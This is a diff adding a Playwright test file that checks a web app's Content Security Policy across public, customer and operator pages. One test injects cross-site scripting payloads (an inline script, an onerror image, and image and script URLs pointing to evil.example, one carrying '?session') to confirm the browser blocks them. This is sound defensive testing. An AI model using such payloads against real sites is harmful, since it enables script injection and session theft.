@@ -1,0 +1,109 @@
+import type { BrowserContext, Page } from '@playwright/test';
+import type { RouteConfigEntry } from '@react-router/dev/routes';
+import pages from '../../src/web/routes.ts';
+import { expect, settled, signInAsOperator, signUp, test } from './story.ts';
+
+/** Every page runs under a policy without exceptions: a violation is told by the browser and fails the story. */
+
+const NOBODY = '00000000-0000-4000-8000-000000000000';
+/** Pages at once. */
+const TABS = 3;
+
+/** The paths of the pages within a layout, as they are opened. An id is of nothing that exists. */
+function pathsOf(layout: string, entries = pages as RouteConfigEntry[]): string[] {
+  return entries.flatMap((entry) => {
+    if (entry.file === layout) return (entry.children ?? []).flatMap(({ path }) => (path ? [`/${path}`] : []));
+    return pathsOf(layout, entry.children ?? []);
+  });
+}
+const opened = (path: string): string => path.replace(/\/:\w+\?/, '').replace(/:\w+/g, NOBODY);
+
+async function watchPolicy(context: BrowserContext): Promise<string[]> {
+  const violations: string[] = [];
+  await context.exposeBinding('tellViolation', (_, text: string) => void violations.push(text));
+  await context.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (event) => {
+      const { tellViolation } = window as unknown as { tellViolation(text: string): void };
+      tellViolation(`${event.effectiveDirective} on ${location.pathname}: ${event.blockedURI} ${event.sample}`);
+    });
+  });
+  return violations;
+}
+
+async function visit(context: BrowserContext, paths: string[]): Promise<void> {
+  const left = [...paths];
+  const walk = async () => {
+    const page = await context.newPage();
+    for (let path = left.shift(); path; path = left.shift()) {
+      const answer = await page.goto(path);
+      expect(answer?.status(), path).toBeLessThan(500);
+      expect(Buffer.byteLength((await answer?.headerValue('content-security-policy')) ?? ''), path).toBeLessThan(4000);
+      await expect(page.getByRole('heading').first(), path).toBeVisible();
+      await settled(page);
+    }
+    await page.close();
+  };
+  await Promise.all(Array.from({ length: TABS }, walk));
+}
+
+// Ids of nothing that exists are answered with 404, also to the page that asks for them.
+test.use({ allowedErrors: [/status of (400|401|403|404)|404: no page/] });
+
+test('pages that anybody may open keep to their policy', async ({ context }) => {
+  const violations = await watchPolicy(context);
+  const written_by_server = ['/docs', '/sandbox/mailbox', `/sandbox/mailbox/${NOBODY}`, `/sandbox/pay/${NOBODY}`];
+  await visit(context, ['/', ...pathsOf('layouts/public.tsx').map(opened), ...written_by_server, '/no-such-page']);
+  expect(violations).toEqual([]);
+});
+
+test('pages of customers keep to their policy, with a menu and a dialog open', async ({ context, page }) => {
+  const violations = await watchPolicy(context);
+  await signUp(page);
+  await openMenu(page);
+  await page.goto('/portal/do-not-mail');
+  await page.getByRole('button', { name: /^Add/ }).first().click();
+  await expect(page.getByRole('dialog')).toBeVisible();
+  await expect(page.locator('body')).toHaveCSS('overflow', 'hidden');
+  await visit(context, pathsOf('layouts/customer.tsx').map(opened));
+  expect(violations).toEqual([]);
+});
+
+test('pages of operators keep to their policy', async ({ context, page }) => {
+  const violations = await watchPolicy(context);
+  await signInAsOperator(page);
+  await visit(context, pathsOf('layouts/admin.tsx').map(opened));
+  expect(violations).toEqual([]);
+});
+
+test.describe('an attack', () => {
+  test.use({ allowedErrors: [/Content Security Policy|TrustedScriptURL/] });
+
+  test('is refused: code and addresses that somebody puts into a page', async ({ page, context }) => {
+    const violations = await watchPolicy(context);
+    await page.goto('/about');
+    const ran = await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.text = 'window.stolen = true';
+      document.body.append(script);
+      document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.stolen = true">');
+      const picture = document.createElement('img');
+      picture.src = 'https://evil.example/?session';
+      const fetched = document.createElement('script');
+      try {
+        fetched.src = 'https://evil.example/script.js';
+      } catch {
+        fetched.dataset.refused = '';
+      }
+      return [(window as { stolen?: boolean }).stolen, document.querySelector('img[src="x"]'), fetched.outerHTML];
+    });
+    expect(ran).toEqual([undefined, null, '<script data-refused=""></script>']);
+    await expect.poll(() => violations.join()).toContain('img-src on /about: https://evil.example');
+    expect(violations.join()).toContain('require-trusted-types-for');
+  });
+});
+
+async function openMenu(page: Page): Promise<void> {
+  await page.getByRole('button', { name: 'Your account' }).click();
+  await expect(page.getByRole('menu')).toBeVisible();
+  await page.keyboard.press('Escape');
+}
